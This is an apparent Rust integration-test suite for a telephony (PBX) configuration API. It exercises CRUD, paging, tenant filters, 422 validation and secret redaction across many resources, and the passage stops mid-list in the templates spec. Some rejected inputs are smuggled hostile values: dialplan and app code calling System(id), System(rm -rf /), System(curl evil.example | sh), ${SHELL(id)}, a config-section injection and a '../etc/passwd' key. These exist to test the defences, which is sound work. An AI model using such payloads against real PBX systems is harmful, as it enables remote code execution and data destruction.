//! Every catalogue resource through the real binary: create, read, list (paging and tenant
//! filter), partial update, delete; bad input answered 422 naming the field; secrets never
//! shown; relations, conflicts, destinations, system globals, runtime settings, CoS links
//! and greetings.

mod common;

use common::*;
use serde_json::{json, Value};

/// How a resource's items relate to tenants.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Scope {
    /// Belongs to the tenant in `cluster`.
    Owned,
    /// The tenants themselves.
    Tenant,
    /// System-wide.
    Global,
}

/// One resource (through one creator) as the generic checks see it.
struct Spec {
    /// URL name, e.g. `extensions`.
    name: &'static str,
    /// Where to POST, e.g. `extensions/mailbox`.
    create: &'static str,
    /// The status of a successful create.
    status: u16,
    scope: Scope,
    /// `Some("pkey")` for natural keys, `None` for serial (`id`) keys.
    natural: bool,
    /// A valid create in tenant `default`.
    first: Value,
    /// Another valid create (in tenant `acme` for owned resources).
    second: Value,
    /// A partial update of `first`.
    update: Value,
    /// Fields given in `first` that the server normalises (not echoed verbatim).
    normalised: &'static [&'static str],
    /// Write-only fields of the resource.
    secrets: &'static [&'static str],
    /// Create bodies the server must refuse with 422 naming the field.
    invalid: Vec<(Value, &'static str)>,
    /// Update bodies the server must refuse with 422 naming the field.
    invalid_update: Vec<(Value, &'static str)>,
}

fn key_of(spec: &Spec, item: &Value) -> String {
    let field = if spec.natural { "pkey" } else { "id" };
    match &item[field] {
        Value::String(s) => s.clone(),
        Value::Number(n) => n.to_string(),
        other => panic!("{}: item has no usable {field}: {other} in {item}", spec.name),
    }
}

fn key_field(spec: &Spec) -> &'static str {
    if spec.natural {
        "pkey"
    } else {
        "id"
    }
}

#[track_caller]
fn assert_no_secret_fields(spec: &Spec, item: &Value, context: &str) {
    for secret in spec.secrets {
        assert!(item.get(*secret).is_none(), "{}: {context} shows write-only field {secret}: {item}", spec.name);
    }
}

/// The secret values `body` gives.
fn secret_values(spec: &Spec, body: &Value) -> Vec<String> {
    spec.secrets.iter().filter_map(|s| body[*s].as_str().map(str::to_owned)).collect()
}

#[track_caller]
fn assert_not_leaked(values: &[String], resp: &Resp, context: &str) {
    for value in values {
        assert!(!resp.text.contains(value.as_str()), "{context}: secret value {value:?} appears in {}: {}", resp.what, resp.text);
    }
}

/// The whole life of one item of `spec`, with every generic check.
async fn lifecycle(s: &Server, spec: &Spec) {
    let ctx = format!("{} via POST /api/{} on {:?}", spec.name, spec.create, s.backend);
    assert!(spec.invalid.len() >= 5, "{ctx}: the spec needs at least 5 bad inputs (missing, in/regex, reference, unknown, type)");

    // Bad input first: each is refused, naming the field, and creates nothing.
    let count_before = s.get(spec.name).await.expect(200).array().len();
    for (body, field) in &spec.invalid {
        let resp = s.post_json(spec.create, body).await;
        assert_invalid(&resp, field);
        assert_not_leaked(&secret_values(spec, body), &resp, &ctx);
    }
    assert_eq!(s.get(spec.name).await.array().len(), count_before, "{ctx}: a refused create left an item behind");

    // Create.
    let created = s.post_json(spec.create, &spec.first).await;
    created.expect(spec.status);
    let created = created.json.clone();
    let key = key_of(spec, &created);
    let path = format!("{}/{key}", spec.name);
    for (field, value) in spec.first.as_object().expect("object body") {
        if spec.secrets.contains(&field.as_str()) || spec.normalised.contains(&field.as_str()) {
            continue;
        }
        assert_eq!(&created[field], value, "{ctx}: created {field} differs: {created}");
    }
    let given_secrets = secret_values(spec, &spec.first);
    for secret in spec.secrets {
        if spec.first.get(*secret).is_some() {
            assert!(created.get(*secret).is_none(), "{ctx}: create echoes the given secret {secret}: {created}");
        }
    }
    for value in &given_secrets {
        assert!(!created.to_string().contains(value.as_str()), "{ctx}: create response shows secret {value}");
    }

    // Read.
    let got = s.get(&path).await;
    got.expect(200);
    assert_not_leaked(&given_secrets, &got, &ctx);
    let got = got.json.clone();
    assert_no_secret_fields(spec, &got, "GET");
    assert_eq!(got, without(&created, spec.secrets), "{ctx}: GET differs from the create response");

    // List, paging and the tenant filter.
    let second = s.post_json(spec.create, &spec.second).await;
    second.expect(spec.status);
    let second_key = second[key_field(spec)].clone();
    let list = s.get(spec.name).await;
    list.expect(200);
    assert_not_leaked(&given_secrets, &list, &ctx);
    let items = list.array();
    let listed = find(items, key_field(spec), &got[key_field(spec)]).unwrap_or_else(|| panic!("{ctx}: list lacks {key}: {}", list.text));
    assert_eq!(listed, &got, "{ctx}: listed item differs from GET");
    assert!(find(items, key_field(spec), &second_key).is_some(), "{ctx}: list lacks the second item");
    for item in items {
        assert_no_secret_fields(spec, item, "list");
    }
    let page0 = s.get(&format!("{}?limit=1&offset=0", spec.name)).await;
    assert_eq!(page0.expect(200).array().len(), 1, "{ctx}: limit=1 gave {}", page0.text);
    let page1 = s.get(&format!("{}?limit=1&offset=1", spec.name)).await;
    assert_eq!(page1.expect(200).array().len(), 1, "{ctx}: limit=1&offset=1 gave {}", page1.text);
    assert_ne!(page0.array()[0], page1.array()[0], "{ctx}: offset did not move the page");
    let past_end = s.get(&format!("{}?limit=5&offset={}", spec.name, items.len())).await;
    assert!(past_end.expect(200).array().is_empty(), "{ctx}: a page past the end is not empty: {}", past_end.text);
    match spec.scope {
        Scope::Owned => {
            let mine = s.get(&format!("{}?cluster=default", spec.name)).await;
            let mine = mine.expect(200).array();
            assert!(find(mine, key_field(spec), &got[key_field(spec)]).is_some(), "{ctx}: ?cluster=default lacks the item");
            assert!(find(mine, key_field(spec), &second_key).is_none(), "{ctx}: ?cluster=default shows acme's item");
            assert!(mine.iter().all(|i| i["cluster"] == "default"), "{ctx}: ?cluster=default shows other tenants");
            let theirs = s.get(&format!("{}?cluster=acme", spec.name)).await;
            let theirs = theirs.expect(200).array();
            assert!(find(theirs, key_field(spec), &got[key_field(spec)]).is_none(), "{ctx}: ?cluster=acme shows default's item");
            assert!(find(theirs, key_field(spec), &second_key).is_some(), "{ctx}: ?cluster=acme lacks acme's item");
            let none = s.get(&format!("{}?cluster=nosuch", spec.name)).await;
            assert!(none.expect(200).array().is_empty(), "{ctx}: ?cluster=nosuch is not empty");
        }
        Scope::Tenant => {
            let only = s.get(&format!("{}?cluster={key}", spec.name)).await;
            let only = only.expect(200).array();
            assert_eq!(only.len(), 1, "{ctx}: ?cluster={key} should list that tenant only");
            assert_eq!(only[0]["pkey"], json!(key));
        }
        Scope::Global => {
            let all = s.get(&format!("{}?cluster=acme", spec.name)).await;
            assert_eq!(all.expect(200).array().len(), items.len(), "{ctx}: global items are not filtered by tenant");
        }
    }

    // Partial update: only the given fields change.
    let updated = s.put_json(&path, &spec.update).await;
    updated.expect(200);
    let after = s.get(&path).await;
    after.expect(200);
    assert_eq!(updated.json, after.json, "{ctx}: the PUT response differs from the GET after it");
    for (field, value) in after.json.as_object().expect("object") {
        match spec.update.get(field) {
            Some(wanted) => assert_eq!(value, wanted, "{ctx}: PUT did not change {field}"),
            None if field == "z_updated" || field == "z_updater" => {}
            None => assert_eq!(value, &got[field], "{ctx}: PUT of {} changed {field}", spec.update),
        }
    }
    for (body, field) in generic_bad_updates(spec).iter().chain(&spec.invalid_update) {
        let resp = s.put_json(&path, body).await;
        assert_invalid(&resp, field);
        assert_not_leaked(&secret_values(spec, body), &resp, &ctx);
    }
    assert_eq!(s.get(&path).await.json, after.json, "{ctx}: a refused PUT changed the item");
    let missing = s.put_json(&format!("{}/{}", spec.name, missing_key(spec)), &spec.update).await;
    missing.expect(404);

    // The audit log never shows a given secret.
    let audit = s.get(&format!("auditlog?resource={}", spec.name)).await;
    audit.expect(200);
    assert!(audit.array().iter().any(|e| e["action"] == "create" && e["key"] == json!(key)), "{ctx}: no audit entry for the create");
    assert_not_leaked(&given_secrets, &audit, &ctx);

    // Delete.
    s.delete(&path).await.expect(204);
    s.get(&path).await.expect(404);
    s.delete(&path).await.expect(404);
    let list = s.get(spec.name).await;
    assert!(find(list.expect(200).array(), key_field(spec), &got[key_field(spec)]).is_none(), "{ctx}: deleted item still listed");
    s.get(&format!("{}/{}", spec.name, missing_key(spec))).await.expect(404);
}

fn missing_key(spec: &Spec) -> &'static str {
    if spec.natural {
        "nosuchkey"
    } else {
        "999999"
    }
}

/// Refusals every resource shares on update: unknown fields, and changing a natural key.
fn generic_bad_updates(spec: &Spec) -> Vec<(Value, &'static str)> {
    let mut bad = vec![(json!({"nosuchfield": "x"}), "nosuchfield")];
    if spec.natural {
        bad.push((json!({"pkey": "renamed"}), "pkey"));
    }
    bad
}

/// Runs `lifecycle` for `spec` on every backend, after `setup`.
macro_rules! lifecycle_test {
    ($name:ident, $spec:expr) => {
        lifecycle_test!($name, $spec, |_s: &Server| async {});
    };
    ($name:ident, $spec:expr, $setup:expr) => {
        #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
        async fn $name() {
            for backend in backends() {
                let s = Server::start(backend).await;
                create_acme(&s).await;
                #[allow(clippy::redundant_closure_call)]
                ($setup)(&s).await;
                lifecycle(&s, &$spec).await;
            }
        }
    };
}

// ---------------------------------------------------------------------------------------
// The resources
// ---------------------------------------------------------------------------------------

fn tenants() -> Spec {
    let first = json!({"pkey": "sales", "description": "Sales team", "chanmax": 10, "clusterclid": "+442071234567", "include": "ALL"});
    Spec {
        name: "tenants",
        create: "tenants",
        status: 200,
        scope: Scope::Tenant,
        natural: true,
        second: json!({"pkey": "support", "description": "Support"}),
        update: json!({"description": "Sales and marketing", "chanmax": 12}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["description"]), "description"),
            (with(&first, json!({"masteroclo": "OPEN"})), "masteroclo"),
            (with(&first, json!({"pkey": "bad key!"})), "pkey"),
            (with(&first, json!({"abstimeout": 90000})), "abstimeout"),
            (with(&first, json!({"include": "a,b;c"})), "include"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"abstimeout": "abc"})), "abstimeout"),
            (with(&first, json!({"chanmax": {"n": 1}})), "chanmax"),
            (with(&first, json!({"description": ["x"]})), "description"),
        ],
        invalid_update: vec![(json!({"callgroup": 64}), "callgroup"), (json!({"masteroclo": "open"}), "masteroclo")],
        first,
    }
}
lifecycle_test!(tenants_lifecycle, tenants());

fn extension(create: &'static str, status: u16, first: Value, second: Value, mut invalid: Vec<(Value, &'static str)>) -> Spec {
    invalid.extend([
        (without(&first, &["cluster"]), "cluster"),
        (without(&first, &["pkey"]), "pkey"),
        (with(&first, json!({"pkey": "1"})), "pkey"),
        (with(&first, json!({"active": "MAYBE"})), "active"),
        (with(&first, json!({"cluster": "nosuch"})), "cluster"),
        (with(&first, json!({"dvrvmail": "9999"})), "dvrvmail"),
        (with(&first, json!({"vmailfwd": "not-an-address"})), "vmailfwd"),
        (with(&first, json!({"passwd": "Sh0rt"})), "passwd"),
        (with(&first, json!({"nosuchfield": "x"})), "nosuchfield"),
        (with(&first, json!({"desc": {"first": "Alice"}})), "desc"),
        (with(&first, json!({"callerid": [1, 2]})), "callerid"),
    ]);
    Spec {
        name: "extensions",
        create,
        status,
        scope: Scope::Owned,
        natural: true,
        first,
        second,
        update: json!({"desc": "Alice Smith", "callerid": "4420", "celltwin": "ON"}),
        normalised: &["macaddr"],
        secrets: &["passwd"],
        invalid,
        invalid_update: vec![
            (json!({"macaddr": "000413000001"}), "macaddr"),
            (json!({"transport": "sctp"}), "transport"),
            (json!({"cluster": "nosuch"}), "cluster"),
            (json!({"passwd": "has spaces in it"}), "passwd"),
        ],
    }
}

lifecycle_test!(
    extensions_mailbox_lifecycle,
    extension(
        "extensions/mailbox",
        200,
        json!({"pkey": "2001", "cluster": "default", "desc": "Alice", "vmailfwd": "alice@example.com"}),
        json!({"pkey": "2002", "cluster": "acme"}),
        vec![(json!({"pkey": "2001", "cluster": "default", "callbackto": "phone"}), "callbackto")],
    )
);

lifecycle_test!(
    extensions_provisioned_lifecycle,
    extension(
        "extensions/provisioned",
        201,
        json!({"pkey": "2101", "cluster": "default", "macaddr": "000413AABBCC", "desc": "Reception"}),
        json!({"pkey": "2102", "cluster": "acme", "macaddr": "001565000001"}),
        vec![
            (json!({"pkey": "2101", "cluster": "default"}), "macaddr"),
            (json!({"pkey": "2101", "cluster": "default", "macaddr": "FFFFFF000000"}), "macaddr"),
            (json!({"pkey": "2101", "cluster": "default", "macaddr": "00:04:13:AA:BB:CC"}), "macaddr"),
        ],
    )
);

lifecycle_test!(
    extensions_unprovisioned_lifecycle,
    extension(
        "extensions/unprovisioned",
        200,
        json!({"pkey": "2201", "cluster": "default", "desc": "Softphone", "transport": "tcp", "passwd": "GivenSipSecret2201"}),
        json!({"pkey": "2202", "cluster": "acme"}),
        vec![(json!({"pkey": "2201", "cluster": "default", "transport": "sctp"}), "transport")],
    )
);

lifecycle_test!(
    extensions_webrtc_lifecycle,
    extension(
        "extensions/webrtc",
        200,
        json!({"pkey": "2301", "cluster": "default", "desc": "Browser"}),
        json!({"pkey": "2302", "cluster": "acme"}),
        vec![(json!({"pkey": "2301", "cluster": "default", "transport": "udp"}), "transport")],
    )
);

/// What each creator sets itself.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn extension_creators_set_device_and_technology() {
    for backend in backends() {
        let s = Server::start(backend).await;
        let mailbox = s.post_json("extensions/mailbox", &json!({"pkey": "3001", "cluster": "default"})).await;
        mailbox.expect(200);
        assert_eq!((&mailbox["device"], &mailbox["technology"]), (&json!("MAILBOX"), &json!("MAILBOX")));

        let snom = s.post_json("extensions/provisioned", &json!({"pkey": "3002", "cluster": "default", "macaddr": "000413AABBCC"})).await;
        snom.expect(201);
        assert_eq!(snom["device"], "Snom", "{}", snom.text);
        assert_eq!(snom["technology"], "SIP");
        assert!(snom["macaddr"].as_str().is_some_and(|m| m.eq_ignore_ascii_case("000413AABBCC")), "{}", snom.text);
        assert!(snom["provision"].as_str().is_some_and(|p| p.contains("Snom")), "provisioned phone has no template: {}", snom.text);
        let yealink = s.post_json("extensions/provisioned", &json!({"pkey": "3003", "cluster": "default", "macaddr": "805ec0123456"})).await;
        assert_eq!(yealink.expect(201)["device"], "Yealink");

        let sip = s.post_json("extensions/unprovisioned", &json!({"pkey": "3004", "cluster": "default"})).await;
        sip.expect(200);
        assert_eq!((&sip["device"], &sip["technology"]), (&json!("General SIP"), &json!("SIP")));

        let webrtc = s.post_json("extensions/webrtc", &json!({"pkey": "3005", "cluster": "default"})).await;
        webrtc.expect(200);
        assert_eq!((&webrtc["device"], &webrtc["transport"]), (&json!("WebRTC"), &json!("wss")));

        // Server-computed fields sent by a client are ignored, not stored.
        let ignored = s.post_json("extensions/mailbox", &json!({"pkey": "3007", "cluster": "default", "device": "Snom", "technology": "SIP"})).await;
        ignored.expect(200);
        assert_eq!((&ignored["device"], &ignored["technology"]), (&json!("MAILBOX"), &json!("MAILBOX")), "{}", ignored.text);
        s.put_json("extensions/3007", &json!({"device": "WebRTC", "desc": "x"})).await.expect(200);
        assert_eq!(s.get("extensions/3007").await["device"], "MAILBOX");

        // There is no plain creator, and the typed ones share the key space.
        let plain = s.post_json("extensions", &json!({"pkey": "3006", "cluster": "default"})).await;
        assert_eq!(plain.status, 405, "POST /api/extensions: {}", plain.text);
        s.post_json("extensions/webrtc", &json!({"pkey": "3001", "cluster": "default"})).await.expect(409);
    }
}

fn trunks() -> Spec {
    let first = json!({
        "pkey": "carrier1", "cluster": "default", "carrier": "GeneralSIP", "username": "acct1",
        "host": "sip.carrier.example:5060", "password": "TrunkSecret8812",
        "register": "acct1:RegSecret5521@sip.carrier.example/100", "disapass": "Disa774411",
        "sipiaxpeer": "secret=PeerSecret3390", "sipiaxuser": "secret=UserSecret6675", "disa": "DISA",
    });
    Spec {
        name: "trunks",
        create: "trunks",
        status: 200,
        scope: Scope::Owned,
        natural: true,
        second: json!({"pkey": "carrier2", "cluster": "acme", "carrier": "GeneralIAX2", "username": "acct2", "host": "192.0.2.10"}),
        update: json!({"description": "Main carrier", "callerid": "+441632960000", "match": 4}),
        normalised: &[],
        secrets: &["password", "disapass", "register", "sipiaxpeer", "sipiaxuser"],
        invalid: vec![
            (without(&first, &["host"]), "host"),
            (without(&first, &["username"]), "username"),
            (with(&first, json!({"carrier": "PJSIP"})), "carrier"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"host": "bad host!"})), "host"),
            (with(&first, json!({"disapass": "no spaces allowed"})), "disapass"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"match": "abc"})), "match"),
            (with(&first, json!({"match": {"n": 1}})), "match"),
        ],
        invalid_update: vec![(json!({"carrier": "GeneralIAX2"}), "carrier"), (json!({"match": 65}), "match")],
        first,
    }
}
lifecycle_test!(trunks_lifecycle, trunks());

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trunk_defaults_follow_the_carrier() {
    for backend in backends() {
        let s = Server::start(backend).await;
        let sip = s
            .post_json("trunks", &json!({"pkey": "t1", "cluster": "default", "carrier": "GeneralSIP", "username": "user1", "host": "192.0.2.1"}))
            .await;
        sip.expect(200);
        assert_eq!(sip["technology"], "SIP");
        assert_eq!(sip["peername"], "user1");
        // A generated carrier secret is shown once.
        let generated = sip["password"].as_str().unwrap_or_else(|| panic!("no generated password: {}", sip.text)).to_owned();
        assert!(generated.len() >= 12, "short generated password {generated}");
        let read = s.get("trunks/t1").await;
        assert!(read.json.get("password").is_none() && !read.text.contains(&generated), "{}", read.text);
        let iax = s
            .post_json("trunks", &json!({"pkey": "t2", "cluster": "default", "carrier": "GeneralIAX2", "username": "user2", "host": "192.0.2.2"}))
            .await;
        assert_eq!(iax.expect(200)["technology"], "IAX2");
    }
}

fn inbound_routes() -> Spec {
    let first = json!({
        "pkey": "01632960001", "cluster": "default", "carrier": "DiD", "trunkname": "carrier1",
        "openroute": "Operator", "closeroute": "Hangup", "disapass": "InDisa55123",
    });
    Spec {
        name: "inboundroutes",
        create: "inboundroutes",
        status: 200,
        scope: Scope::Owned,
        natural: true,
        second: json!({"pkey": "01632960002", "cluster": "acme", "carrier": "CLID", "trunkname": "acme-line"}),
        update: json!({"description": "Main number", "moh": "ON"}),
        normalised: &[],
        secrets: &["disapass"],
        invalid: vec![
            (without(&first, &["trunkname"]), "trunkname"),
            (without(&first, &["carrier"]), "carrier"),
            (with(&first, json!({"carrier": "XYZ"})), "carrier"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"openroute": "nosuch"})), "openroute"),
            (with(&first, json!({"closeroute": "9999"})), "closeroute"),
            (with(&first, json!({"pkey": "bad number"})), "pkey"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"openroute": {"to": "Operator"}})), "openroute"),
        ],
        invalid_update: vec![(json!({"openroute": "nosuch"}), "openroute"), (json!({"moh": "MAYBE"}), "moh")],
        first,
    }
}
lifecycle_test!(inbound_routes_lifecycle, inbound_routes());

async fn route_setup(s: &Server) {
    for (pkey, cluster) in [("t1", "default"), ("t2", "default"), ("t3", "acme")] {
        let body = json!({"pkey": pkey, "cluster": cluster, "carrier": "GeneralSIP", "username": pkey, "host": "192.0.2.1"});
        s.post_json("trunks", &body).await.expect(200);
    }
}

fn routes() -> Spec {
    let first = json!({"pkey": "national", "cluster": "default", "dialplan": "_0X. _1XX", "path1": "t1", "path2": "t2"});
    Spec {
        name: "routes",
        create: "routes",
        status: 200,
        scope: Scope::Owned,
        natural: true,
        second: json!({"pkey": "intl", "cluster": "acme", "path1": "t3"}),
        update: json!({"desc": "UK national", "strategy": "balance"}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["cluster"]), "cluster"),
            (with(&first, json!({"strategy": "random"})), "strategy"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"path1": "nosuch"})), "path1"),
            (with(&first, json!({"path2": "t3"})), "path2"),
            (with(&first, json!({"dialplan": "_0X.;System(id)"})), "dialplan"),
            (with(&first, json!({"path5": "t1"})), "path5"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"desc": {"text": "x"}})), "desc"),
        ],
        invalid_update: vec![(json!({"path3": "nosuch"}), "path3"), (json!({"auth": "maybe"}), "auth")],
        first,
    }
}
lifecycle_test!(routes_lifecycle, routes(), route_setup);

async fn extension_1001(s: &Server) {
    s.post_json("extensions/unprovisioned", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
    s.post_json("extensions/unprovisioned", &json!({"pkey": "1002", "cluster": "default"})).await.expect(200);
}

fn ring_groups() -> Spec {
    let first = json!({"pkey": "rg-sales", "cluster": "default", "outcome": "Operator", "out": "1001 1002", "grouptype": "Hunt"});
    Spec {
        name: "ringgroups",
        create: "ringgroups",
        status: 200,
        scope: Scope::Owned,
        natural: true,
        second: json!({"pkey": "rg-acme", "cluster": "acme", "outcome": "Hangup"}),
        update: json!({"longdesc": "Sales hunt group", "ringdelay": 30}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["outcome"]), "outcome"),
            (with(&first, json!({"grouptype": "Blast"})), "grouptype"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"outcome": "nosuch"})), "outcome"),
            (with(&first, json!({"out": "1001 bad;member"})), "out"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"ringdelay": "abc"})), "ringdelay"),
            (with(&first, json!({"ringdelay": 0})), "ringdelay"),
        ],
        invalid_update: vec![(json!({"outcome": "nosuch"}), "outcome"), (json!({"ringdelay": 99999}), "ringdelay")],
        first,
    }
}
lifecycle_test!(ring_groups_lifecycle, ring_groups(), extension_1001);

fn queues() -> Spec {
    let first = json!({"pkey": "q-support", "cluster": "default", "conf": "strategy=rrmemory\ntimeout=30", "options": "tT"});
    Spec {
        name: "queues",
        create: "queues",
        status: 200,
        scope: Scope::Owned,
        natural: true,
        second: json!({"pkey": "q-acme", "cluster": "acme"}),
        update: json!({"options": "tTr", "devicerec": "OTR"}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["cluster"]), "cluster"),
            (with(&first, json!({"devicerec": "Always"})), "devicerec"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"conf": "strategy=ringall\n[evil]\nexec=System(id)"})), "conf"),
            (with(&first, json!({"greetnum": "12"})), "greetnum"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"options": {"t": true}})), "options"),
        ],
        invalid_update: vec![(json!({"options": "t1"}), "options")],
        first,
    }
}
lifecycle_test!(queues_lifecycle, queues());

async fn agent_setup(s: &Server) {
    for (pkey, cluster) in [("q1", "default"), ("q2", "default"), ("qa", "acme")] {
        s.post_json("queues", &json!({"pkey": pkey, "cluster": cluster})).await.expect(200);
    }
}

fn agents() -> Spec {
    let first = json!({"pkey": "1101", "cluster": "default", "name": "alice", "queue1": "q1", "queue2": "q2", "passwd": "86429713"});
    Spec {
        name: "agents",
        create: "agents",
        status: 200,
        scope: Scope::Owned,
        natural: true,
        second: json!({"pkey": "1102", "cluster": "acme", "name": "bob", "queue1": "qa"}),
        update: json!({"name": "alice-smith", "queue3": "q1"}),
        normalised: &[],
        secrets: &["passwd"],
        invalid: vec![
            (without(&first, &["name"]), "name"),
            (with(&first, json!({"pkey": "0999"})), "pkey"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"queue1": "nosuch"})), "queue1"),
            (with(&first, json!({"queue2": "qa"})), "queue2"),
            (with(&first, json!({"passwd": "12"})), "passwd"),
            (with(&first, json!({"queue7": "q1"})), "queue7"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"name": ["alice"]})), "name"),
        ],
        invalid_update: vec![(json!({"queue4": "nosuch"}), "queue4"), (json!({"passwd": "abcd"}), "passwd")],
        first,
    }
}
lifecycle_test!(agents_lifecycle, agents(), agent_setup);

async fn ivr_setup(s: &Server) {
    extension_1001(s).await;
    s.post_json("queues", &json!({"pkey": "q1", "cluster": "default"})).await.expect(200);
}

fn ivrs() -> Spec {
    let first =
        json!({"pkey": "main-menu", "cluster": "default", "option1": "1001", "option2": "q1", "greetnum": 1, "timeout": "Operator", "tag1": "sales"});
    Spec {
        name: "ivrs",
        create: "ivrs",
        status: 200,
        scope: Scope::Owned,
        natural: true,
        second: json!({"pkey": "acme-menu", "cluster": "acme"}),
        update: json!({"description": "Main menu", "listenforext": "YES"}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["cluster"]), "cluster"),
            (with(&first, json!({"listenforext": "MAYBE"})), "listenforext"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"option1": "nosuch"})), "option1"),
            (with(&first, json!({"tag1": "bad tag!"})), "tag1"),
            (with(&first, json!({"option12": "1001"})), "option12"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"greetnum": "abc"})), "greetnum"),
            (with(&first, json!({"greetnum": 10000})), "greetnum"),
        ],
        invalid_update: vec![(json!({"option3": "nosuch"}), "option3"), (json!({"timeout": "nosuch"}), "timeout")],
        first,
    }
}
lifecycle_test!(ivrs_lifecycle, ivrs(), ivr_setup);

fn day_timers() -> Spec {
    let first = json!({"cluster": "default", "dayofweek": "mon", "timespan": "09:00-17:00", "desc": "Office hours"});
    Spec {
        name: "daytimers",
        create: "daytimers",
        status: 200,
        scope: Scope::Owned,
        natural: false,
        second: json!({"cluster": "acme", "dayofweek": "sat"}),
        update: json!({"desc": "Monday hours", "month": "jan"}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["cluster"]), "cluster"),
            (with(&first, json!({"dayofweek": "funday"})), "dayofweek"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"timespan": "25:00-26:00"})), "timespan"),
            (with(&first, json!({"datemonth": "32"})), "datemonth"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"desc": {"text": "x"}})), "desc"),
        ],
        invalid_update: vec![(json!({"month": "january"}), "month"), (json!({"cluster": "nosuch"}), "cluster")],
        first,
    }
}
lifecycle_test!(day_timers_lifecycle, day_timers());

fn holiday_timers() -> Spec {
    let first = json!({"cluster": "default", "route": "Operator", "stime": 1767225600, "etime": 1767312000, "desc": "New year"});
    Spec {
        name: "holidaytimers",
        create: "holidaytimers",
        status: 200,
        scope: Scope::Owned,
        natural: false,
        second: json!({"cluster": "acme", "route": "Hangup"}),
        update: json!({"desc": "New Year's Day", "etime": 1767315600}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["route"]), "route"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"route": "nosuch"})), "route"),
            (with(&first, json!({"stime": 123})), "stime"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"stime": "abc"})), "stime"),
            (with(&first, json!({"etime": 1.5})), "etime"),
        ],
        invalid_update: vec![(json!({"route": "nosuch"}), "route"), (json!({"etime": 99}), "etime")],
        first,
    }
}
lifecycle_test!(holiday_timers_lifecycle, holiday_timers());

fn cos_rules() -> Spec {
    let first = json!({"pkey": "no-intl", "dialplan": "_00X. _+X.", "description": "Block international"});
    Spec {
        name: "cosrules",
        create: "cosrules",
        status: 200,
        scope: Scope::Global,
        natural: true,
        second: json!({"pkey": "no-premium", "dialplan": "_09X."}),
        update: json!({"active": "NO", "defaultopen": "YES"}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["dialplan"]), "dialplan"),
            (with(&first, json!({"active": "MAYBE"})), "active"),
            (with(&first, json!({"dialplan": "_X.;System(rm -rf /)"})), "dialplan"),
            (with(&first, json!({"pkey": "bad key!"})), "pkey"),
            (with(&first, json!({"cluster": "default"})), "cluster"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"dialplan": {"p": "_X."}})), "dialplan"),
        ],
        invalid_update: vec![(json!({"orideopen": "yes"}), "orideopen")],
        first,
    }
}
lifecycle_test!(cos_rules_lifecycle, cos_rules());

fn custom_apps() -> Spec {
    let first = json!({"pkey": "welcome", "cluster": "default", "extcode": "Answer()\nPlayback(welcome)\nHangup()", "span": "Internal"});
    Spec {
        name: "customapps",
        create: "customapps",
        status: 200,
        scope: Scope::Owned,
        natural: true,
        second: json!({"pkey": "acme-app", "cluster": "acme"}),
        update: json!({"desc": "Welcome message", "striptags": "YES"}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["cluster"]), "cluster"),
            (with(&first, json!({"span": "Everyone"})), "span"),
            (with(&first, json!({"cluster": "nosuch"})), "cluster"),
            (with(&first, json!({"extcode": "System(id)"})), "extcode"),
            (with(&first, json!({"extcode": "Answer()\nSystem(curl evil.example | sh)"})), "extcode"),
            (with(&first, json!({"extcode": "Answer();System(id)"})), "extcode"),
            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"desc": ["x"]})), "desc"),
        ],
        invalid_update: vec![(json!({"extcode": "Set(x=${SHELL(id)})"}), "extcode")],
        first,
    }
}
lifecycle_test!(custom_apps_lifecycle, custom_apps());

fn templates() -> Spec {
    let first = json!({"pkey": "snom-base", "technology": "SIP", "provision": "setting_server=1\nuser_realname1=x", "desc": "Snom"});
    Spec {
        name: "templates",
        create: "templates",
        status: 200,
        scope: Scope::Global,
        natural: true,
        second: json!({"pkey": "yealink-base", "technology": "Descriptor"}),
        update: json!({"desc": "Snom base template"}),
        normalised: &[],
        secrets: &[],
        invalid: vec![
            (without(&first, &["technology"]), "technology"),
            (with(&first, json!({"technology": "XML"})), "technology"),
            (with(&first, json!({"blfkeyname": "nosuch"})), "blfkeyname"),
            (with(&first, json!({"pkey": "../etc/passwd"})), "pkey"),
